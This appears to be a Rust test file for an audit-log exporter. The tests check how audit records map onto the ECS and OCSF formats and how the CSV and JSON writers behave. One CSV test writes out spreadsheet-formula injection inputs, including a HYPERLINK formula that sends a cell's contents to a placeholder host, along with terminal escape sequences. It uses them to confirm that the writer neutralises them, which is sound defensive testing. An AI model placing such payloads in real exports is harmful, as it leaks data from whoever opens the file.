use super::*;
use elsewhere::ROWS;
use serde_json::json;
use std::collections::BTreeSet;

const SCHEMA: &str = include_str!("../../../../../docs/audit/record.schema.json");
const PAGE: &str = include_str!("../../../../../docs/audit/README.md");

fn schema() -> Value {
    serde_json::from_str(SCHEMA).unwrap()
}

/// The fields that the schema knows, by their names in the table.
fn fields() -> BTreeSet<String> {
    let schema = schema();
    let keys = |object: &Value| -> Vec<String> { object.as_object().unwrap().keys().cloned().collect() };
    let own = keys(&schema["properties"])
        .into_iter()
        .filter(|key| key != "details");
    let details = keys(&schema["properties"]["details"]["properties"]);
    own.chain(details.into_iter().map(|key| format!("details.{key}")))
        .collect()
}

fn pointer(path: &str) -> String {
    format!("/{}", path.replace('.', "/"))
}

/// A record with every field that there is.
fn full(event: &str) -> Value {
    let record = json!({
        "number": 7, "time": "2026-01-31T12:00:00.123456789Z", "stage": "backend", "level": "warn", "event": event,
        "session": "3f6c0000000000000000000000000001", "exchange": 2,
        "trace": "4bf92f3577b34da6a3ce929d0e0e4736", "parent": "00f067aa0ba902b7", "sampled": false,
        "actor": "app", "tenant": "7", "action": "update",
        "resource": ["sha256:aa", "sha256:bb"], "result": "failed", "named": "report", "rule": "access.cedar:12",
        "objects": ["update shop.orders.total"], "roles": ["app", "owner"], "service": "shop-web", "values": [{ "of": "$1", "clear": "x" }], "pattern": "UPDATE t SET a = $1",
        "details": {
            "sqlstate": "42501", "reason": "rights", "reference": "0a1b2c3d0a1b2c3d", "rows": 1, "bytes": 2, "messages": 3,
            "statements": 4, "parts": 5, "duration_us": 6789, "backend_us": 8, "instance": "01", "client": "10.0.0.7",
            "policy": "0123456789abcdef", "epoch": 9, "would": "refused"
        },
        "prev": "00", "hash": "ff",
    });
    let named: BTreeSet<String> = fields()
        .into_iter()
        .filter(|field| record.pointer(&pointer(field)).is_some())
        .collect();
    assert_eq!(named, fields(), "the schema has a field that is not tried here");
    record
}

#[test]
fn the_table_in_the_documentation_is_this_one() {
    let (_, table) = PAGE.split_once("## Field names elsewhere").unwrap();
    let (table, _) = table.split_once("\n## ").unwrap();
    let first_code = |cell: &str| cell.split('`').nth(1).map(str::to_owned);
    let told: Vec<Vec<String>> = table
        .lines()
        .filter(|line| line.starts_with("| `"))
        .map(|line| line.trim_matches('|').split('|').filter_map(first_code).collect())
        .collect();
    let ours: Vec<Vec<String>> = ROWS
        .iter()
        .map(|row| {
            let (ecs, ocsf) = row.names();
            [row.field, ecs, ocsf].map(str::to_owned).to_vec()
        })
        .collect();
    assert_eq!(told, ours);
    let known = fields();
    assert!(ROWS.iter().all(|row| known.contains(row.field)));
}

#[test]
fn every_field_of_every_event_has_its_place() {
    let schema = schema();
    let events = schema["properties"]["event"]["enum"].as_array().unwrap();
    assert!(events.len() > 20);
    for event in events {
        let event = event.as_str().unwrap();
        let record = full(event);
        let (ecs, ocsf) = (elsewhere::ecs(&record), elsewhere::ocsf(&record));
        for field in fields() {
            let value = record.pointer(&pointer(&field));
            let bare = field.trim_start_matches("details.");
            match ROWS.iter().find(|row| row.field == field) {
                Some(row) => {
                    let (in_ecs, in_ocsf) = row.names();
                    assert!(ecs.pointer(&pointer(in_ecs)).is_some(), "{field}: {ecs}");
                    assert!(ocsf.pointer(&pointer(in_ocsf)).is_some(), "{field}: {ocsf}");
                }
                None => {
                    assert_eq!(ecs.pointer(&format!("/postern/{bare}")), value, "{field}: {ecs}");
                    assert_eq!(
                        ocsf.pointer(&format!("/unmapped/{bare}")),
                        value,
                        "{field}: {ocsf}"
                    );
                }
            }
        }
        assert_eq!(ecs["event"]["action"], event);
        assert_eq!(ocsf["unmapped"]["event"], event);
        let is_connect = matches!(event, "signin" | "session.open");
        assert_eq!(ocsf["activity_id"] == 3, is_connect, "{event}");
    }
}

#[test]
fn a_full_record_in_ecs() {
    let right = json!({
        "@timestamp": "2026-01-31T12:00:00.123456789Z",
        "ecs": { "version": "8.11.0" },
        "event": {
            "kind": "event", "category": ["database"], "dataset": "postern.audit", "sequence": 7, "action": "exchange",
            "outcome": "failure", "reason": "rights", "id": "0a1b2c3d0a1b2c3d", "duration": 6_789_000, "hash": "ff"
        },
        "service": { "name": "backend" },
        "log": { "level": "warn" },
        "transaction": { "id": "3f6c0000000000000000000000000001" },
        "trace": { "id": "4bf92f3577b34da6a3ce929d0e0e4736" },
        "parent": { "id": "00f067aa0ba902b7" },
        "user": { "name": "app", "roles": ["app", "owner"] },
        "organization": { "id": "7" },
        "related": { "hash": ["sha256:aa", "sha256:bb"] },
        "rule": { "name": "access.cedar:12", "version": "0123456789abcdef" },
        "client": { "ip": "10.0.0.7" },
        "error": { "code": "42501" },
        "postern": {
            "exchange": 2, "named": "report", "action": "update", "pattern": "UPDATE t SET a = $1",
            "service": "shop-web", "values": [{ "of": "$1", "clear": "x" }],
            "objects": ["update shop.orders.total"], "bytes": 2, "result": "failed", "sampled": false, "rows": 1,
            "messages": 3, "statements": 4, "parts": 5, "backend_us": 8, "instance": "01", "epoch": 9,
            "would": "refused", "prev": "00"
        },
    });
    assert_eq!(elsewhere::ecs(&full("exchange")), right);
}

#[test]
fn a_full_record_in_ocsf() {
    let right = json!({
        "class_uid": 6005, "category_uid": 6, "activity_id": 2, "activity_name": "update", "type_uid": 600_502,
        "type_id": 1, "severity_id": 3, "status_id": 2, "status_code": "42501", "status_detail": "rights",
        "time": 1_769_860_800_123_u64, "duration": 6,
        "metadata": {
            "version": "1.2.0", "sequence": 7, "uid": "0a1b2c3d0a1b2c3d",
            "correlation_uid": "4bf92f3577b34da6a3ce929d0e0e4736", "original_time": "2026-01-31T12:00:00.123456789Z",
            "product": { "name": "Postern", "vendor_name": "Postern", "feature": { "name": "backend" } }
        },
        "actor": {
            "session": { "uid": "3f6c0000000000000000000000000001" },
            "user": { "name": "app", "groups": [{ "name": "app" }, { "name": "owner" }], "org": { "uid": "7" } },
            "app_name": "shop-web"
        },
        "query_info": { "name": "report", "uid": "sha256:aa", "query_string": "UPDATE t SET a = $1", "bytes": 2 },
        "src_endpoint": { "ip": "10.0.0.7" },
        "unmapped": {
            "event": "exchange", "exchange": 2, "parent": "00f067aa0ba902b7", "values": [{ "of": "$1", "clear": "x" }], "objects": ["update shop.orders.total"],
            "rule": "access.cedar:12", "policy": "0123456789abcdef", "hash": "ff", "prev": "00", "result": "failed",
            "resource": ["sha256:aa", "sha256:bb"], "duration_us": 6789, "sampled": false, "rows": 1, "messages": 3,
            "statements": 4, "parts": 5, "backend_us": 8, "instance": "01", "epoch": 9, "would": "refused"
        },
    });
    assert_eq!(elsewhere::ocsf(&full("exchange")), right);
}

#[test]
fn words_become_numbers_and_what_is_not_said_is_not_made_up() {
    let of = |level: &str, result: &str, action: Option<&str>| {
        let mut record = json!({ "event": "exchange", "level": level, "result": result });
        if let Some(action) = action {
            record["action"] = json!(action);
        }
        (elsewhere::ecs(&record), elsewhere::ocsf(&record))
    };
    for (level, severity, kind) in [("info", 1, "event"), ("warn", 3, "event"), ("alert", 5, "alert")] {
        let (ecs, ocsf) = of(level, "allowed", None);
        assert_eq!(
            (&ocsf["severity_id"], &ecs["event"]["kind"]),
            (&json!(severity), &json!(kind))
        );
        assert_eq!(
            (&ocsf["activity_id"], &ocsf["type_uid"]),
            (&json!(0), &json!(600_500))
        );
    }
    for (result, outcome, status) in [
        ("allowed", "success", 1),
        ("refused", "failure", 2),
        ("failed", "failure", 2),
    ] {
        let (ecs, ocsf) = of("info", result, None);
        assert_eq!(
            (&ecs["event"]["outcome"], &ocsf["status_id"]),
            (&json!(outcome), &json!(status))
        );
        assert_eq!(
            (&ecs["postern"]["result"], &ocsf["unmapped"]["result"]),
            (&json!(result), &json!(result))
        );
    }
    for (action, activity) in [
        ("select", 4),
        ("copy out", 1),
        ("insert", 5),
        ("update", 2),
        ("delete", 7),
        ("ddl", 99),
    ] {
        let (_, ocsf) = of("info", "allowed", Some(action));
        assert_eq!(
            (&ocsf["activity_id"], &ocsf["activity_name"]),
            (&json!(activity), &json!(action))
        );
        assert_eq!(ocsf["type_uid"], 600_500 + activity);
    }
    let (ecs, ocsf) = of("info", "allowed", None);
    for absent in ["user", "client", "trace", "related"] {
        assert!(ecs.get(absent).is_none(), "{ecs}");
    }
    for absent in ["actor", "src_endpoint", "query_info", "activity_name", "time"] {
        assert!(ocsf.get(absent).is_none(), "{ocsf}");
    }
}

#[test]
fn a_trace_that_nobody_named_is_made_of_session_and_exchange() {
    let mut record = full("exchange");
    record.as_object_mut().unwrap().remove("trace");
    let right = "3f6c0000000000000000000000000003";
    assert_eq!(elsewhere::ecs(&record)["trace"]["id"], right);
    assert_eq!(elsewhere::ocsf(&record)["metadata"]["correlation_uid"], right);
}

#[test]
fn what_is_not_as_it_should_be_stays_what_it_is() {
    let odd = json!({
        "time": "yesterday", "level": 5, "result": "perhaps", "number": -1, "roles": "app", "trace": "x",
        "new": { "a": [1] }, "a.b": 1, "details": { "client": "nowhere", "duration_us": u64::MAX, "resource": 1 }
    });
    let ecs = elsewhere::ecs(&odd);
    assert_eq!(
        ecs["postern"],
        json!({
            "time": "yesterday", "result": "perhaps", "number": -1, "roles": "app", "trace": "x", "level": 5,
            "new": { "a": [1] }, "a.b": 1, "client": "nowhere", "duration_us": u64::MAX, "resource": 1
        })
    );
    assert!(ecs.get("@timestamp").is_none() && ecs["event"].get("outcome").is_none());
    let ocsf = elsewhere::ocsf(&odd);
    assert_eq!(
        (&ocsf["severity_id"], &ocsf["unmapped"]["level"]),
        (&json!(0), &json!(5))
    );
    assert!(ocsf.get("time").is_none() && ocsf.get("status_id").is_none());
    assert!(ocsf.get("src_endpoint").is_none(), "{ocsf}");
    // Whatever is in `details` if it is no object.
    assert_eq!(
        elsewhere::ecs(&json!({ "details": [1] }))["postern"],
        json!({ "details": [1] })
    );
}

fn table(record: &Value) -> Vec<String> {
    let mut out = Vec::new();
    csv::write_head(&mut out).unwrap();
    csv::write(record, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let lines: Vec<String> = text.split_terminator("\r\n").map(str::to_owned).collect();
    assert_eq!(lines.len(), 2, "{text}");
    lines
}

/// The cells of a line, as RFC 4180 has them.
fn cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut rest = line.chars().peekable();
    while let Some(c) = rest.next() {
        match c {
            '"' if quoted && rest.peek() == Some(&'"') => {
                rest.next();
                cells.last_mut().unwrap().push('"');
            }
            '"' => quoted = !quoted,
            ',' if !quoted => cells.push(String::new()),
            c => cells.last_mut().unwrap().push(c),
        }
    }
    assert!(!quoted, "{line}");
    cells
}

#[test]
fn a_table_has_a_column_for_every_field() {
    let columns: BTreeSet<String> = csv::COLUMNS.map(str::to_owned).into();
    assert_eq!(columns, fields());
    let record = full("exchange");
    let [head, line] = &table(&record)[..] else {
        panic!()
    };
    let (names, line) = (cells(head), cells(line));
    assert_eq!(names.len(), csv::COLUMNS.len());
    assert_eq!(names.iter().collect::<BTreeSet<_>>().len(), names.len());
    assert_eq!(line.len(), names.len());
    for ((column, name), cell) in csv::COLUMNS.iter().zip(names).zip(line) {
        assert!(column.ends_with(&name));
        let value = record.pointer(&pointer(column)).unwrap();
        let right = value.as_str().map_or_else(|| value.to_string(), str::to_owned);
        assert_eq!(cell, right, "{column}");
    }
    // What is missing leaves its cell empty.
    let [_, line] = &table(&json!({ "stage": "backend" }))[..] else {
        panic!()
    };
    assert_eq!(*line, format!(",backend{}", ",".repeat(csv::COLUMNS.len() - 2)));
}

#[test]
fn a_cell_is_text_whatever_it_begins_with() {
    let actor = |text: &str| {
        let [_, line] = &table(&json!({ "actor": text }))[..] else {
            panic!()
        };
        cells(line)[8].clone()
    };
    for formula in [
        "=HYPERLINK(\"http://x.example/?\"&A1,\"a\")",
        "+1",
        "-1",
        "@SUM(A1)",
        " =1",
        "\u{ff1d}1",
        "-",
    ] {
        assert_eq!(actor(formula), format!("'{formula}"), "{formula}");
    }
    for harmless in ["app", "a=b", "a,b", "\"", "a;=b", "zoë", "'", ""] {
        assert_eq!(actor(harmless), harmless);
    }
    // Nothing ends a line, and nothing controls a terminal; what begins after that is a formula still.
    assert_eq!(actor("a\r\n\u{1b}[2J\u{9b}"), "a\\u000d\\u000a\\u001b[2J\\u009b");
    assert_eq!(actor("\t=1"), "'\\u0009=1");
    // Where `;` ends cells, it is inside of quotes.
    let [_, line] = &table(&json!({ "actor": "a;=b" }))[..] else {
        panic!()
    };
    assert!(line.contains("\"a;=b\""), "{line}");
}

#[test]
fn no_line_of_json_can_control_a_terminal() {
    let mut out = Vec::new();
    let record = json!({ "actor": "\u{1b}[2J\u{9b}31m\u{7f}\n" });
    write_json(&elsewhere::ecs(&record), &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    assert!(
        text.trim_end_matches('\n').chars().all(|c| !c.is_control()),
        "{text:?}"
    );
    let again: Value = serde_json::from_str(&text).unwrap();
    assert_eq!(again["user"]["name"], record["actor"]);
}
